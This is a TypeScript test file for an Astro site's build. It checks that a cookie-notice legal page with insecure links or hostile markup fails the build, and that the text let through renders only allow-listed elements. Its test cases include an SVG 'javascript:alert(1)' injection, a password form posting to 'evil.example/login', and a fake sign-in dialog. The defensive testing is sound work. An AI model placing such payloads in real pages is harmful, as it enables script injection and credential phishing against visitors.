/**
 * Page text and its links in `astro build`, in a copy of the project: a legal page is built like any other page, so
 * hostile page text is refused and its links are checked, each naming the file and line; and the page text that is
 * let through (every inert case of tests/support/hostile-page-text.ts) holds, in the built HTML, no element or
 * attribute outside the list of src/schemas/page-text/allow-list.ts. The other cases go through the same checks
 * in-process (tests/unit/page-text-allow-list.test.ts).
 */
import { readFile, rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { Parser } from 'htmlparser2';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { astro, copyProject } from '../support/project-copy.ts';
import { hostileCases } from '../support/hostile-page-text.ts';
import { renderedProblems } from '../../src/schemas/page-text/allow-list.ts';

let project: Awaited<ReturnType<typeof copyProject>> | undefined;
const page = 'content/legal/cookie-notice.mdx';
const frontmatter = [
  '---',
  'seo:',
  '  title: Cookie Notice | Kalpaka Technologies',
  '  description: Which cookies this website sets, why, and how long they last, written for visitors who want to know before they browse.',
  'title: Cookie Notice',
  'lastUpdated: 2026-11-01',
  'summary: This notice explains which cookies the website sets.',
  'order: 9',
  '---',
  '',
].join('\n');

/** Builds the copy with `body` as the legal page's text; resolves with the output of a failed build, or undefined. */
async function buildWith(body: string): Promise<string | undefined> {
  await writeFile(join(project!.root, page), `${frontmatter}${body}\n`);
  return astro(project!.root, 'build').then(
    () => undefined,
    (error: { stdout: string; stderr: string }) => `${error.stdout}\n${error.stderr}`,
  );
}

/** The line of `snippet` in the page once its text is `body`. */
const lineOf = (body: string, snippet: string) => `${frontmatter}${body}`.slice(0, `${frontmatter}${body}`.indexOf(snippet)).split('\n').length;

beforeAll(async () => {
  project = await copyProject('page-text-build-');
}, 60_000);

afterAll(() => project?.remove());

test("a legal page's broken links fail the build, each with its file and line and what to write", async () => {
  const body = 'Our processor is [Insecure Ltd](http://insecure.example/).\n\nRead [the policy](/no-such-page).\n\nTheir site is www.example.org today.';
  const output = await buildWith(body);
  expect(output, 'the build fails').toBeDefined();
  expect(output).toContain(
    `${page}:${lineOf(body, 'Our processor')}:18 the link "http://insecure.example/" in the page text is not a link this site can follow: it is not secure (http://); write https://insecure.example/ instead`,
  );
  expect(output).toContain(`${page}:${lineOf(body, 'Read [')}:6 the link "/no-such-page" in the page text is not a page of this site`);
  expect(output).toContain(
    `${page}:${lineOf(body, 'Their site')}:15 the address "www.example.org" in the page text becomes a link to http://www.example.org, which is not secure`,
  );
}, 240_000);

test("the review's hostile page text fails the build, each with its file and line", async () => {
  const cases = [
    '<svg><a><animate attributeName="href" values="#top;javascript:alert(1)" /><text y="20">Click</text></a></svg>',
    '<plaintext />',
    '<form action="https://evil.example/login"><input type="password" name="p" /></form>',
    '<dialog open>Your session expired: sign in again</dialog>',
  ];
  const body = cases.join('\n\n');
  const output = await buildWith(body);
  expect(output, 'the build fails').toBeDefined();
  expect(output).toContain(`${page}:${lineOf(body, '<svg>')}:1 the page text contains a <svg> drawing: pictures in page text are images`);
  expect(output).toContain(`${page}:${lineOf(body, '<plaintext')}:1 the page text contains an HTML <plaintext> element, which page text cannot use`);
  expect(output).toContain(`${page}:${lineOf(body, '<form')}:1 the page text contains a <form> (part of a form)`);
  expect(output).toContain(`${page}:${lineOf(body, '<dialog')}:1 the page text contains an HTML <dialog> element`);
}, 240_000);

/** Each element of the built page's text (the legal page's <article>) and its attributes as hast names them. */
function articleElements(html: string): Array<{ tag: string; properties: Record<string, unknown> }> {
  const found: Array<{ tag: string; properties: Record<string, unknown> }> = [];
  let depth = 0;
  const hastName = (name: string) =>
    name === 'class' ? 'className' : name.replace(/-([a-z])/g, (_, letter: string) => letter.toUpperCase()).replace(/^ariaDescribedby$/, 'ariaDescribedBy');
  const parser = new Parser({
    onopentag(tag, attributes) {
      if (depth > 0 || (tag === 'article' && attributes.class === 'prose-body')) depth += 1;
      if (depth > 1) {
        const properties = Object.fromEntries(
          Object.entries(attributes).map(([name, value]) => [hastName(name), name === 'class' ? value.split(/\s+/) : value === '' ? true : value]),
        );
        found.push({ tag, properties });
      }
    },
    onclosetag() {
      if (depth > 0) depth -= 1;
    },
  });
  parser.end(html);
  return found;
}

test('the page text let through renders nothing outside the list', async () => {
  const inert = hostileCases.filter((hostile) => hostile.inert).map(({ text }) => text);
  expect(await buildWith(inert.join('\n\n'))).toBeUndefined();
  const html = await readFile(join(project!.root, 'dist/cookie-notice.html'), 'utf8');
  const elements = articleElements(html);
  // The text is there, as text.
  expect(elements.length).toBeGreaterThan(10);
  expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
  expect(elements.flatMap(({ tag, properties }) => renderedProblems(tag, properties))).toEqual([]);
  await rm(join(project!.root, page));
}, 240_000);
